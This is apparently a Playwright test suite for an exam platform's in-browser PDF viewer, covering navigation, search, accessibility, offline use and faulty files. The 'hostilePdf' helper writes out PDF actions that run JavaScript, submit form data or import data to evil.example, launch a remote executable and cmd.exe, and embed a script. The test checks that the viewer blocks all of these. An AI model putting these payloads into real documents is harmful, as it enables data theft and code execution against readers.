import type { Page } from '@playwright/test'
import {
  exam,
  expect,
  expectNoViolations,
  longText,
  organisation,
  person,
  radio,
  signIn,
  startExam,
  test,
} from '../../../../../../e2e/fixtures.ts'
import { type PdfPage, pdfFile } from '../../../../../../e2e/pdf-file.ts'
import { pressFinish } from '../../../../../../e2e/press-finish.ts'

const pageOf = (index: number, more: Partial<PdfPage> = {}): PdfPage => ({
  lines: [`Rule ${index + 1}`, 'Vessels keep to the starboard side.', `A vessel of ${index + 1} masts gives way.`],
  ...more,
})
const pagesOf = (count: number) => Array.from({ length: count }, (_, index) => pageOf(index))
const rules = pdfFile({
  pages: [
    pageOf(0, {
      links: [
        { text: 'The last rule', page: 12 },
        { text: 'The harbour office', url: 'https://harbour.example/' },
      ],
    }),
    ...pagesOf(12).slice(1),
  ],
  outline: [
    { title: 'First things', page: 1 },
    { title: 'Lights', page: 7 },
  ],
})

const world = (files: Record<string, Uint8Array>, settings: object = {}) =>
  organisation({
    exams: [
      exam({
        name: 'Harbour law',
        settings: { examTime: 3600, ...settings },
        files,
        questions: [
          radio('<p>Who gives way? See <a href="resources/rules.pdf">the rules</a>.</p>', ['Sail', 'Steam'], 0),
          longText('<p>Describe <a href="resources/rules.pdf">rule 7</a>.</p>'),
          longText('<p>Anything else?</p>'),
        ],
      }),
    ],
  })

const open = async (page: Page, examGuid: string) => {
  await page.goto(`/exam/${examGuid}`)
  await startExam(page)
}
const viewer = (page: Page, name = 'Rules') => page.getByRole('region', { name: `Document: ${name}` })
const opener = (page: Page, name = 'Rules') =>
  page.getByRole('region', { name: 'Documents', exact: true }).getByRole('button', { name })
const textOf = (page: Page, number: number) => viewer(page).locator(`.page[data-page-number="${number}"] .textLayer`)
const isPainted = (page: Page, number: number) =>
  viewer(page).locator(`.page[data-page-number="${number}"][data-loaded="true"] canvas`)

/** Whether something is drawn on a canvas that isn't white. */
const hasInk = (canvas: HTMLElement) => {
  if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return false
  const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? {}
  return data?.some((value, index) => index % 4 === 0 && value < 128 && (data[index + 3] ?? 0) > 0) ?? false
}

/** The headings that a screen reader is told of, as the browser has them. */
const spokenHeadings = async (page: Page) => {
  const session = await page.context().newCDPSession(page)
  const { nodes } = await session.send('Accessibility.getFullAXTree')
  await session.detach()
  const byId = new Map(nodes.map((node) => [node.nodeId, node]))
  const textOf = (id: string): string => {
    const { name, childIds = [] } = byId.get(id) ?? {}
    return String(name?.value ?? '') || childIds.map(textOf).join('')
  }
  return nodes.flatMap(({ role, nodeId }) => (role?.value === 'heading' ? [textOf(nodeId)] : []))
}

// PDF-301 PDF-303 PDF-304 PDF-305 PDF-306
test('a PDF is read beside its question by keyboard: pages, search, headings, links within it, and told to a screen reader', async ({
  page,
  sitwell,
}) => {
  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': rules }))
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).host))
  const read = threadsOf(page)
  await signIn(page, arranged)
  await open(page, arranged.exams[0]?.examGuid ?? '')
  await opener(page).focus()
  await page.keyboard.press('Enter')
  await expect(textOf(page, 1)).toContainText('Vessels keep to the starboard side.')
  expect(await read()).toEqual(['newer'])
  const shown = viewer(page)
  const pages = shown.getByRole('group', { name: 'Pages of the document' })
  await expect(pages).toBeFocused()
  await expect(shown.getByRole('progressbar')).toHaveJSProperty('max', 12)
  // As the document is tagged.
  await expect.poll(() => spokenHeadings(page)).toContain('Rule 1')

  const number = shown.getByRole('textbox', { name: 'Go to page' })
  await page.keyboard.press('ArrowRight')
  await expect(number).toHaveValue('2')
  await page.keyboard.press('End')
  await expect(number).toHaveValue('12')
  await page.keyboard.press('Home')
  await expect(number).toHaveValue('1')
  // It is the document's pages that were turned.
  await expect(page.getByRole('heading', { name: 'Question 1' })).toBeVisible()

  await page.keyboard.press('Control+f')
  const search = shown.getByRole('searchbox', { name: 'Search the document' })
  await expect(search).toBeFocused()
  await page.keyboard.type('STARBOARD')
  const hits = shown.locator('search output')
  await expect(hits).toHaveText('1 of 12')
  await page.keyboard.press('Enter')
  await expect(hits).toHaveText('2 of 12')
  await expect(number).toHaveValue('2')
  await expect(textOf(page, 2).locator('.highlight.selected')).toHaveText('starboard')
  await expect(textOf(page, 1).locator('.highlight')).toHaveText('starboard')
  await search.fill('rudder')
  await expect(hits).toHaveText('Not found')
  await page.keyboard.press('Escape')
  await expect(search).toBeHidden()

  await shown.getByRole('button', { name: 'Contents' }).press('Enter')
  await shown.getByRole('button', { name: 'Lights' }).press('Enter')
  await expect(number).toHaveValue('7')
  await shown.getByRole('button', { name: 'Pages', exact: true }).click()
  const small = shown.getByRole('button', { name: 'Page 1', exact: true })
  // Only what is near what shows is drawn.
  await small.scrollIntoViewIfNeeded()
  await expect.poll(() => small.locator('canvas').evaluate(hasInk)).toBe(true)
  await small.click()
  await expect(number).toHaveValue('1')
  await shown.getByRole('button', { name: 'Contents' }).press('Enter')
  await expect(shown.getByRole('link', { name: /leads out of the document/ })).not.toHaveAttribute('href')
  await shown.getByRole('link', { name: 'The last rule' }).press('Enter')
  await expect(number).toHaveValue('12')

  await shown.getByRole('button', { name: 'Shown at' }).press('Enter')
  // 595 points at 96/72.
  await expect.poll(async () => Math.round((await shown.locator('.page').first().boundingBox())?.width ?? 0)).toBe(793)
  for (let times = 0; times < 6; times += 1) await shown.getByRole('button', { name: 'Larger' }).click()
  await expect(shown.getByRole('button', { name: 'Shown at 400 %' })).toBeVisible()
  await expect(shown.getByRole('button', { name: 'Larger' })).toBeDisabled()
  await shown.getByRole('button', { name: 'Fit the width' }).press('Enter')
  await expectNoViolations(page)
  await shown.getByRole('button', { name: 'Close the document' }).press('Enter')
  await expect(opener(page)).toBeFocused()
  expect([...new Set(asked)]).toEqual([new URL(sitwell.origin).host])
})

test('page, zoom and width stay as they were from question to question, over a reload, and without a network', async ({
  page,
  context,
  sitwell,
}) => {
  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': rules }))
  await signIn(page, arranged)
  await open(page, arranged.exams[0]?.examGuid ?? '')
  await page.getByRole('link', { name: 'the rules' }).click()
  const shown = viewer(page)
  const number = shown.getByRole('textbox', { name: 'Go to page' })
  await expect(number).toHaveValue('1')
  await number.fill('7')
  await number.press('Enter')
  await shown.getByRole('button', { name: 'Shown at' }).click()
  await shown.getByRole('button', { name: 'Larger' }).click()
  const divider = page.getByRole('separator', { name: 'Width of the source' })
  await divider.press('ArrowRight')
  await expect(divider).toHaveAttribute('aria-valuenow', '51')
  const isAsLeft = async () => {
    await expect(number).toHaveValue('7')
    await expect(shown.getByRole('button', { name: 'Shown at 125 %' })).toBeVisible()
    await expect(divider).toHaveAttribute('aria-valuenow', '51')
    await expect(isPainted(page, 7)).toBeVisible()
  }
  await isAsLeft()
  await page.getByRole('button', { name: 'Next', exact: true }).click()
  await expect(page.getByRole('heading', { name: 'Question 2' })).toBeFocused()
  await isAsLeft()
  // A keyboard on the screen makes the window lower: what is typed stays in sight, and the document comes back after it.
  const field = page.getByRole('article').getByRole('textbox')
  await page.setViewportSize({ width: 700, height: 900 })
  await field.click()
  await expect(shown).toBeVisible()
  await page.setViewportSize({ width: 700, height: 500 })
  await expect(page.getByRole('tab', { name: 'Question' })).toHaveAttribute('aria-selected', 'true')
  await expect(page.getByRole('tabpanel', { name: 'Question' })).toBeVisible()
  await expect(field).toBeFocused()
  await expect(shown).toHaveCount(0)
  await page.setViewportSize({ width: 700, height: 900 })
  await expect(shown).toBeVisible()
  await page.setViewportSize({ width: 1280, height: 800 })
  await isAsLeft()
  // Nothing of the third question names it.
  await page.getByRole('button', { name: 'Next', exact: true }).click()
  await expect(page.getByRole('heading', { name: 'Question 3' })).toBeVisible()
  await expect(shown).toHaveCount(0)
  await page.getByRole('button', { name: 'Previous', exact: true }).click()
  await isAsLeft()
  await expect.poll(() => page.evaluate(cachedFiles)).toBeGreaterThan(0)
  let fetched = 0
  await page.route('**/rules.pdf*', async (route) => {
    fetched += 1
    await route.continue()
  })
  await page.reload()
  await isAsLeft()
  expect(fetched).toBe(0)
  await context.setOffline(true)
  await page.getByRole('button', { name: 'Previous', exact: true }).click()
  await isAsLeft()
  // What is told of the lost connection is below the document, and covers nothing of it.
  const foot = page.getByRole('contentinfo')
  await expect(foot.getByRole('status')).toContainText('Working offline')
  const isClear = async () => {
    const [pane, below] = [await shown.boundingBox(), await foot.boundingBox()]
    return pane && below && pane.y + pane.height <= below.y + 1
  }
  await expect.poll(isClear).toBe(true)
  await number.fill('12')
  await number.press('Enter')
  await expect(textOf(page, 12)).toContainText('A vessel of 12 masts')
})

/** How many files of the exam this browser keeps. */
const cachedFiles = async () => {
  const database = await new Promise<IDBDatabase>((resolve) => {
    const request = indexedDB.open('sitwell')
    request.onsuccess = () => resolve(request.result)
  })
  const count = await new Promise<number>((resolve) => {
    const request = database.transaction('examFiles').objectStore('examFiles').count()
    request.onsuccess = () => resolve(request.result)
  })
  database.close()
  return count
}

/** How many lines of the hostile PDF lead somewhere. */
const hostileLinks = 12

/** What a file may ask of a viewer: to run, to open, to send, to print, to hand out what is in it; on opening it, on each of its pages, on each press. */
const hostilePdf = () => {
  const evil = '(https://evil.example/)'
  const runs = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\); this.print\\(\\))`
  const sends = `/S /SubmitForm /F << /FS /URL /F ${evil} >> /Flags 4`
  const actions = {
    Run: runs,
    Out: `/S /URI /URI ${evil}`,
    Relative: '/S /URI /URI (../../../login?nobody)',
    Script: '/S /URI /URI (javascript:print\\(\\))',
    Launch: '/S /Launch /F (https://evil.example/a.exe) /Win << /F (cmd.exe) >> /NewWindow true',
    Other: `/S /GoToR /F (https://evil.example/b.pdf) /D [0 /Fit] /NewWindow true`,
    Inside: '/S /GoToE /T << /R /C /N (inside.pdf) >> /D [0 /Fit] /NewWindow true',
    Send: sends,
    Import: `/S /ImportData /F ${evil}`,
    Print: '/S /Named /N /Print',
    Save: '/S /Named /N /SaveAs',
    Then: `/S /Named /N /NextPage /Next << ${runs} >>`,
  }
  return pdfFile({
    pages: [
      {
        lines: ['Hostile'],
        links: Object.entries(actions).map(([text, action]) => ({ text, action })),
        annotations: [
          `/Subtype /Widget /FT /Btn /Ff 65536 /T (send) /MK << /CA (Send) >> /A << ${sends} >> /AA << /D << ${runs} >> >>`,
          `/Subtype /Widget /FT /Tx /T (name) /V (Ada) /AA << /K << ${runs} >> /C << ${runs} >> /Fo << ${runs} >> >>`,
          `/Subtype /FileAttachment /FS << /Type /Filespec /F (inside.html) >> /Contents (inside) /A << ${runs} >>`,
          `/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(2\\)) /OP 0 >> /AA << /PO << ${runs} >> >>`,
        ],
        more: `/AA << /O << ${runs} >> /C << ${sends} >> >>`,
      },
    ],
    objects: [{ dictionary: '/Type /EmbeddedFile /Subtype /text#2Fhtml', content: '<script>parent.print()</script>' }],
    catalog: ([file]) =>
      `/OpenAction << ${runs} >> /AA << /WC << ${runs} >> /DP << ${runs} >> >>
      /AcroForm << /Fields [] /NeedAppearances true /CO [] >>
      /Names << /JavaScript << /Names [(a) << ${runs} >>] >>
        /EmbeddedFiles << /Names [(inside.pdf) << /Type /Filespec /F (inside.html) /EF << /F ${file} 0 R >> >>] >> >>`,
  })
}

// PDF-302 PDF-307
test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says so, and the exam goes on', async ({
  page,
  sitwell,
}) => {
  const files = {
    'resources/rules.pdf': rules,
    'resources/hostile.pdf': hostilePdf(),
    'resources/locked.pdf': pdfFile({ pages: pagesOf(10), password: 'sesame' }),
    'resources/damaged.pdf': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 'x')]),
    'resources/boundless.pdf': pdfFile({ pages: pagesOf(1), times: 5001 }),
    'resources/gone.pdf': pdfFile({ pages: pagesOf(11) }),
  }
  const arranged = await sitwell.arrange(world(files))
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(sitwell.origin) && !request.url().startsWith('blob:')) outside.push(request.url())
  })
  page.on('dialog', (dialog) => outside.push(dialog.message()))
  page.on('download', (file) => outside.push(file.url()))
  page.context().on('page', (other) => outside.push(other.url()))
  await page.exposeFunction('leadsOut', (how: string) => outside.push(how))
  await page.addInitScript(() => {
    const { leadsOut } = window as unknown as { leadsOut(how: string): void }
    window.print = () => leadsOut('printed')
    window.open = () => {
      leadsOut('opened')
      return null
    }
  })
  await page.route('**/gone.pdf*', (route) =>
    route.continue({
      url: route
        .request()
        .url()
        .replace(/token=[^&]*/, 'token=x'),
    }),
  )
  await signIn(page, arranged)
  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
  await expect(page.getByRole('listitem').filter({ hasText: 'gone.pdf' })).toBeVisible()
  await page.getByRole('button', { name: 'Go on without them' }).click()
  await startExam(page)

  await opener(page, 'Hostile').click()
  const hostile = viewer(page, 'Hostile')
  await expect(hostile.locator('.textLayer')).toContainText('Hostile')
  // What leads somewhere is told of by name and led nowhere; nothing can be typed into, or handed in.
  await expect(hostile.getByRole('link', { name: 'leads out of the document' }).first()).toBeVisible()
  const layer = hostile.locator('.annotationLayer')
  await expect(layer.locator('a[href], input, textarea, select, button, form')).toHaveCount(0)
  const address = page.url()
  const targets = layer.locator('section, a')
  expect(await targets.count()).toBeGreaterThan(hostileLinks)
  for (const target of await targets.all()) {
    if (await target.isVisible()) {
      await target.click({ button: 'middle', force: true })
      await target.dblclick({ force: true })
    }
    await target.evaluate((element: HTMLElement) => {
      for (const press of ['click', 'auxclick', 'dblclick']) element.dispatchEvent(new MouseEvent(press, { bubbles: true }))
      element.focus()
      for (const key of ['Enter', ' ']) element.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }))
    })
  }
  expect(page.url()).toBe(address)

  await opener(page, 'Locked').click()
  const locked = viewer(page, 'Locked')
  await locked.getByRole('textbox', { name: 'Password of the document' }).pressSequentially('open')
  await page.keyboard.press('Enter')
  await expect(locked.getByText('This password doesn’t open it.')).toBeVisible()
  await expectNoViolations(page, 'section[aria-label="Document: Locked"]')
  await locked.getByRole('textbox', { name: 'Password of the document' }).clear()
  await locked.getByRole('textbox', { name: 'Password of the document' }).pressSequentially('sesame')
  await page.keyboard.press('Enter')
  await expect(locked.locator('.textLayer').first()).toContainText('starboard')
  await expect(locked.getByRole('navigation').getByRole('listitem')).toHaveCount(10)
  await expect(locked.getByRole('progressbar')).toHaveCount(0)

  for (const [name, says] of [
    ['Damaged', 'Its file is damaged.'],
    ['Boundless', 'more pages than can be shown'],
    ['Gone', 'This document isn’t available.'],
  ] as const) {
    await opener(page, name).click()
    await expect(viewer(page, name).getByRole('alert')).toContainText(says)
  }
  await page.unroute('**/gone.pdf*')
  await viewer(page, 'Gone').getByRole('button', { name: 'Try again' }).click()
  await expect(viewer(page, 'Gone').locator('.textLayer').first()).toContainText('starboard')
  await expect(viewer(page, 'Gone').getByRole('progressbar')).toHaveJSProperty('max', 11)
  await expect(viewer(page, 'Gone').getByRole('navigation').getByRole('listitem')).toHaveCount(0)
  await viewer(page, 'Gone').getByRole('button', { name: 'Close the document' }).click()
  await page.getByRole('radio', { name: 'Sail' }).check({ force: true })
  await expect(page.getByTestId('saved-state')).toHaveText('Saved')
  expect(outside).toEqual([])
})

test('a large PDF shows its first page while the rest still comes, and the exam may begin meanwhile', async ({
  page,
  sitwell,
}) => {
  const large = pdfFile({ pages: pagesOf(40), ballast: 150_000 })
  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': large }))
  let rest: (() => void) | undefined
  const held = new Promise<void>((resolve) => {
    rest = resolve
  })
  // The third piece of what is loaded ahead comes no sooner than the test says.
  await page.route('**/rules.pdf*', async (route) => {
    const range = route.request().headers().range ?? ''
    if (range.startsWith('bytes=2097152-')) await held
    await route.continue()
  })
  await signIn(page, arranged)
  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
  await expect(page.getByRole('progressbar', { name: 'Document 1 of 1' })).toHaveJSProperty('value', 2_097_152)
  await page.getByRole('button', { name: 'Go on while they load' }).click()
  await startExam(page)
  await opener(page).click()
  await expect(textOf(page, 1)).toContainText('A vessel of 1 masts')
  const number = viewer(page).getByRole('textbox', { name: 'Go to page' })
  await number.fill('40')
  await number.press('Enter')
  await expect(textOf(page, 40)).toContainText('A vessel of 40 masts')
  expect(await page.evaluate(cachedFiles)).toBe(0)
  rest?.()
  await expect.poll(() => page.evaluate(cachedFiles)).toBe(1)
  // Pages that are far away are let go of.
  expect(await viewer(page).locator('.page canvas').count()).toBeLessThan(12)
})

/** Which builds of pdf.js have read a document so far: only the one for older browsers brings what they lack. */
const threadsOf = (page: Page) => {
  const threads: Promise<string>[] = []
  page.on('response', (response) => {
    if (/pdf\.worker\.[^/]*$/.test(response.url()))
      threads.push(response.text().then((text) => (text.includes('core-js') ? 'older' : 'newer')))
  })
  return async () => [...new Set(await Promise.all(threads))]
}

// PDF-304
test('on a phone, in an older browser, from right to left, the document takes the place of the question, and its text can be kept from being chosen', async ({
  page,
  sitwell,
}) => {
  await page.setViewportSize({ width: 390, height: 844 })
  const read = threadsOf(page)
  await page.route('**/config.json', async (route) => {
    const reply = await route.fetch()
    const pdfSupportedBrowsers = [{ name: 'firefox', include: [], exclude: [] }]
    await route.fulfill({ response: reply, json: { ...(await reply.json()), pdfSupportedBrowsers } })
  })
  const arranged = await sitwell.arrange({
    ...world({ 'resources/rules.pdf': rules }, { allowPdfTextSelection: false }),
    organisation: { languageId: 2 },
    people: [person({ languageId: 2 })],
  })
  await signIn(page, arranged)
  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
  await page.getByRole('button', { name: 'ابدأ', exact: true }).click()
  await page.getByRole('link', { name: 'the rules' }).click()
  // The name of the document is set apart by marks that nobody sees or hears.
  const shown = page.getByRole('region', { name: /^المستند: .?Rules/ })
  await expect(shown.locator('.textLayer').first()).toContainText('starboard')
  expect(await read()).toEqual(['older'])
  await expect(page.getByRole('radio', { name: 'Sail' })).toBeHidden()
  expect((await shown.boundingBox())?.width).toBe(390)
  await expect(shown.locator('.textLayer span').first()).toHaveCSS('user-select', 'none')
  await page.keyboard.press('ArrowLeft')
  await expect(shown.getByRole('textbox', { name: 'الانتقال إلى الصفحة' })).toHaveValue('2')
  await expectNoViolations(page)
  await shown.getByRole('button', { name: 'إغلاق المستند' }).click()
  await expect(page.getByRole('radio', { name: 'Sail' })).toBeVisible()
  // On its side, all of it shows, with what turns its pages.
  await page.setViewportSize({ width: 844, height: 390 })
  await page.getByRole('link', { name: 'the rules' }).click()
  await expect(shown.getByRole('textbox', { name: 'الانتقال إلى الصفحة' })).toBeInViewport({ ratio: 1 })
  await expect(shown).toBeInViewport({ ratio: 1 })
  // One row of tools, so that its pages have a third of the window; its tab has its name.
  const pages = await shown.getByRole('group', { name: 'صفحات المستند' }).boundingBox()
  expect(pages?.height).toBeGreaterThan(130)
  await expect(shown.getByRole('button', { name: 'إغلاق المستند' })).toBeInViewport({ ratio: 1 })
})

// PDF-304
test('PDFs that the instructions and the last words link to open over the page, in an older browser and without a network too', async ({
  page,
  context,
  sitwell,
}) => {
  await page.addInitScript(() => {
    for (const [owner, name] of [
      [Map.prototype, 'getOrInsertComputed'],
      [Math, 'sumPrecise'],
      [Promise, 'try'],
    ] as const)
      Reflect.deleteProperty(owner, name)
  })
  const read = threadsOf(page)
  const linked = '<p>Read <a href="resources/rules.pdf">the rules</a>.</p>'
  const questions = [radio('Who gives way?', ['Sail', 'Steam'], 0)]
  const files = { 'resources/rules.pdf': rules, 'resources/reasons.pdf': rules }
  const feedback = '<p>Here is <a href="resources/reasons.pdf">why</a>.</p>'
  const gradeBoundaries = [{ grade: 'A', fromPercent: 0, pass: true, feedback }]
  const settings = { introText: linked, outroText: linked }
  const arranged = await sitwell.arrange(organisation({ exams: [exam({ settings, files, questions, gradeBoundaries })] }))
  const others: string[] = []
  context.on('page', (other) => others.push(other.url()))
  await signIn(page, arranged)
  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
  const link = page.getByRole('link', { name: 'the rules' })
  const number = viewer(page).getByRole('textbox', { name: 'Go to page' })
  await link.press('Enter')
  await expect(textOf(page, 1)).toContainText('Vessels keep to the starboard side.')
  await expect(page.getByRole('dialog', { name: 'Document: Rules' })).toBeVisible()
  await number.fill('7')
  await number.press('Enter')
  await expectNoViolations(page)
  await page.keyboard.press('Escape')
  await expect(viewer(page)).toHaveCount(0)
  await expect(link).toBeFocused()
  expect(await read()).toEqual(['older'])
  await startExam(page)

  await context.setOffline(true)
  await page.getByRole('button', { name: 'Instructions' }).click()
  await link.click()
  // Where the learner was in it.
  await expect(number).toHaveValue('7')
  await expect(textOf(page, 7)).toContainText('A vessel of 7 masts')
  await viewer(page).getByRole('button', { name: 'Close the document' }).click()
  await expect(link).toBeFocused()
  await page.getByRole('region', { name: 'Your exam' }).getByRole('button', { name: 'Resume' }).click()
  await context.setOffline(false)

  await page.getByRole('radio', { name: 'Sail' }).check({ force: true })
  await expect(page.getByTestId('saved-state')).toHaveText('Saved')
  await pressFinish(page)
  await page.getByRole('alertdialog').getByRole('button', { name: 'Finish' }).click()
  await expect(page.getByRole('heading', { name: 'Assessment complete' })).toBeVisible()
  await context.setOffline(true)
  await link.click()
  await expect(textOf(page, 7)).toContainText('A vessel of 7 masts')
  await context.setOffline(false)

  // Loaded again, and from the schedules later; there beside what is said of the result, which nobody could read before.
  await page.reload()
  const whyLink = page.getByRole('link', { name: 'why' })
  for (const each of [link, whyLink, link]) {
    await each.press('Enter')
    const first = page.getByRole('region', { name: /^Document: / }).locator('.page[data-page-number="1"] .textLayer')
    await expect(first).toContainText('Vessels keep to the starboard side.')
    await page.keyboard.press('Escape')
    await expect(each).toBeFocused()
    if (each !== whyLink) continue
    await page.goto('/schedules')
    await page.getByRole('button', { name: /^Result/ }).click()
  }
  expect(others).toEqual([])
})
